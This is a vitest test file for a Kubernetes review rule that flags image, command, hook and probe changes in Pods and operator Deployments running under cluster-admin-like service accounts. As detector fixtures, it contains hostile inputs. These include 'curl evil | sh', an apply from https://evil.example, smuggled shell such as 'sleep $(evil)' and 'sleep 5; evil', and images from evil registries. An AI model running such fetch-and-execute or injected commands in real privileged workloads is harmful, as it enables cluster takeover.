import { describe, expect, it } from 'vitest';
import type { KubernetesObject } from '../../../../src/base/kubernetes/object.js';
import type { Access } from '../../../../src/review/rules/access/access.js';
import { powerfulImage, powerfulInput } from '../../../../src/review/rules/changed/powerful-workloads.js';
import { csv, group, namespace } from '../../../support/build.js';
import { bind } from '../../../support/rbac-in-short.js';
import { accessTo } from '../../../support/states.js';
import { pod } from '../../../support/workloads.js';

const job = (container: object, more: object = {}): KubernetesObject => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'backup', namespace: 'op' },
  spec: { serviceAccountName: 'ci', containers: [container], ...more },
});
const OURS = { image: 'quay.io/ours/backup:v1' };
const told = (after: KubernetesObject, roleName = 'cluster-admin') => {
  const access = (object: KubernetesObject) => accessTo(namespace('op'), bind('ci', roleName, 'ServiceAccount op/ci'), object);
  return powerfulImage.compare?.(access(job(OURS)), access(after)).map(({ message }) => message);
};

/** An operator that can do everything, with a Deployment for each of these Pods. */
const operatorObjects = (name: string, ...pods: readonly object[]): KubernetesObject[] => [
  namespace('op'),
  group('op/global'),
  csv(`op/${name}`, {
    spec: {
      install: {
        strategy: 'deployment',
        spec: {
          deployments: pods.map((spec, index) => ({ name: `manager-${index}`, spec: { template: { spec } } })),
          clusterPermissions: [{ serviceAccountName: 'etcd', rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }] }],
        },
      },
    },
  }),
];

describe('powerful-image', () => {
  it('tells of an image from elsewhere, and of another command', () => {
    const end = 'as ServiceAccount op/ci, which can do everything in all namespaces';
    expect(told(job({ image: 'quay.io/evil/backup:v1' }))).toEqual([`Pod op/backup runs quay.io/evil/backup:v1 ${end}`]);
    expect(told(job(OURS, { initContainers: [{ image: 'evil' }] }))).toEqual([`Pod op/backup runs evil ${end}`]);
    expect(told(job({ ...OURS, command: ['sh', '-c', 'evil'] }))).toEqual([
      `Pod op/backup runs quay.io/ours/backup:v1 with ["sh","-c","evil"] ${end}`,
    ]);
  });

  it('leaves arguments of the same program to the rule of its input, whatever they say', () => {
    const args = ['apply', '-f', 'https://evil.example/x.yaml'];
    const access = (object: KubernetesObject) => accessTo(namespace('op'), bind('ci', 'cluster-admin', 'ServiceAccount op/ci'), object);
    const input = (was: object, is: object) =>
      powerfulInput.compare?.(access(job(was)), access(job(is))).map(({ severity, message, after }) => [severity, message, after]);
    const named = { name: 'a', ...OURS };
    expect(told(job({ ...OURS, args }))).toEqual([]);
    expect(input(named, { ...named, args })).toEqual([['error', expect.stringMatching(/: args of a$/), JSON.stringify(args)]]);
    // The arguments of another program, or of a shell, are told with that program.
    for (const other of [{ command: ['curl'] }, { image: 'quay.io/evil/backup:v1' }, { command: ['sh', '-c'] }]) {
      expect(told(job({ ...OURS, ...other, args }))?.[0]).toContain('https://evil.example/x.yaml');
      expect(input(named, { ...named, ...other, args })).toEqual([]);
    }
  });

  describe('of a hook or probe', () => {
    const IDLE = [['/bin/true'], ['true'], ['sleep', '5'], ['/usr/bin/sleep', '0.5s'], ['sh', '-c', 'sleep 10'], ['/bin/sh', '-c', 'true']];
    const OTHERS = [
      ['/tmp/true'],
      ['true', '5'],
      ['sleep'],
      ['sleep', '$(evil)'],
      ['sleep', '5', '6'],
      ['sleep', '5 6'],
      ['sh', '-c', 'sleep 5; evil'],
      ['sh', '-c', 'sleep 5\nevil'],
      ['sh', '-c', 'evil\nsleep 5'],
      ['sh', '-c', 'sleep 5', 'evil'],
      ['sh', '-ec', 'sleep 5'],
      ['evil', '-c', 'sleep 5'],
      ['/tmp/sh', '-c', 'true'],
    ];
    const places = (command: readonly string[]): object[] => [
      { lifecycle: { preStop: { exec: { command } } } },
      { lifecycle: { postStart: { exec: { command } } } },
      ...['livenessProbe', 'readinessProbe', 'startupProbe'].map((probe) => ({ [probe]: { exec: { command } } })),
    ];

    it.each(IDLE)('says nothing of one that waits: %s %s %s', (...command) => {
      const words = command.filter((word) => word !== undefined);
      for (const place of places(words)) expect(told(job({ ...OURS, ...place }))).toEqual([]);
      // Elsewhere, it is the program.
      expect(told(job({ ...OURS, command: words }))).toHaveLength(1);
      // With another one, or in another image, it is told.
      const { lifecycle } = places(words)[0] as { lifecycle: object };
      expect(told(job({ ...OURS, lifecycle: { ...lifecycle, postStart: { exec: { command: ['evil'] } } } }))).toHaveLength(1);
      expect(told(job({ image: 'quay.io/evil/backup:v1', lifecycle }))).toHaveLength(1);
    });

    it.each(OTHERS.map((command) => ({ command })))('tells of $command', ({ command }) => {
      for (const place of places(command)) expect(told(job({ ...OURS, ...place }))).toHaveLength(1);
    });
  });

  it('may grant more only with another image', () => {
    const effects = (container: object) =>
      powerfulImage
        .compare?.(
          ...([OURS, container].map((each) =>
            accessTo(namespace('op'), bind('ci', 'cluster-admin', 'ServiceAccount op/ci'), job(each)),
          ) as [Access, Access]),
        )
        .map(({ effect }) => effect);
    expect(effects({ ...OURS, command: ['sh', '-c', 'evil'] })).toEqual(['none']);
    expect(effects({ image: 'quay.io/evil/backup:v1' })).toEqual([undefined]);
  });

  it('tells of the arguments of a shell, of a hook and of a probe', () => {
    const exec = { exec: { command: ['evil'] } };
    for (const more of [{ command: ['sh', '-c'], args: ['evil'] }, { lifecycle: { postStart: exec } }, { livenessProbe: exec }])
      expect(told(job({ ...OURS, ...more }))?.[0]).toContain('with ["evil"]');
    expect(told(job({ ...OURS, livenessProbe: { httpGet: { path: '/' } } }))).toEqual([]);
  });

  it('says nothing of the next version, of what stays, and of an account that can do little', () => {
    expect(told(job(OURS))).toEqual([]);
    expect(told(job({ image: 'quay.io/ours/backup:v2@sha256:0f' }))).toEqual([]);
    expect(told(job({ image: 'quay.io/evil/backup:v1' }), 'view')).toEqual([]);
  });

  it('tells of other arguments of a shell', () => {
    const shell = (script: string) => job({ ...OURS, command: ['sh', '-c'], args: [script] });
    const access = (object: KubernetesObject) => accessTo(namespace('op'), bind('ci', 'cluster-admin', 'ServiceAccount op/ci'), object);
    const told = (before: KubernetesObject, after: KubernetesObject) => powerfulImage.compare?.(access(before), access(after));
    expect(told(shell('backup'), shell('evil'))).toHaveLength(1);
    expect(told(job(OURS), job({ ...OURS, args: ['sh', '-c', 'evil'] }))).toHaveLength(1);
    expect(told(shell('backup'), shell('backup'))).toEqual([]);
  });

  it('tells of an image of a powerful operator from another registry or account', () => {
    const operator = (name: string, ...images: readonly string[]) =>
      accessTo(...operatorObjects(name, ...images.map((image) => pod({ image }, { serviceAccountName: 'etcd' }))));
    const changed = (...images: readonly string[]) =>
      powerfulImage
        .compare?.(operator('etcd.v1', 'quay.io/acme/etcd:v1', 'gcr.io/kubebuilder/kube-rbac-proxy:v0.8'), operator('etcd.v2', ...images))
        .map(({ message }) => message);
    expect(changed('quay.io/evil/etcd:v1')).toEqual([
      'Deployment op/manager-0 runs quay.io/evil/etcd:v1 as ServiceAccount op/etcd, which can do everything in all namespaces',
    ]);
    expect(changed('evil.example.com/acme/etcd:v1')).toHaveLength(1);
    expect(changed('quay.io/acme/etcd-operator:v2', 'quay.io/brancz/kube-rbac-proxy:v0.18')).toEqual([]);
    expect(changed('quay.io/acme/etcd:v2', 'quay.io/other/kube-rbac-proxy:v0.18')).toHaveLength(1);
  });

  it('tells of a shell in an upgraded operator, also in a new Deployment, and of no other command there', () => {
    const operator = (name: string, ...containers: readonly Readonly<Record<string, unknown>>[]) =>
      accessTo(...operatorObjects(name, ...containers.map((container) => pod(container, { serviceAccountName: 'etcd' }))));
    const changed = (...containers: readonly Readonly<Record<string, unknown>>[]) =>
      powerfulImage
        .compare?.(operator('etcd.v1', { command: ['/manager'] }), operator('etcd.v2', ...containers))
        .map(({ message }) => message);
    const end = 'as ServiceAccount op/etcd, which can do everything in all namespaces';
    const evil = { command: ['sh', '-c', 'curl evil | sh; exec /manager'] };
    expect(changed(evil)).toEqual([
      `Deployment op/manager-0 runs quay.io/acme/etcd:v1 with ["sh","-c","curl evil | sh; exec /manager"] ${end}`,
    ]);
    expect(changed({ command: ['/manager'] }, evil)).toEqual([expect.stringContaining(`Deployment op/manager-1 runs`)]);
    expect(changed({ command: ['/bin/other'] }, { command: ['/bin/webhook'] })).toEqual([]);
  });
});
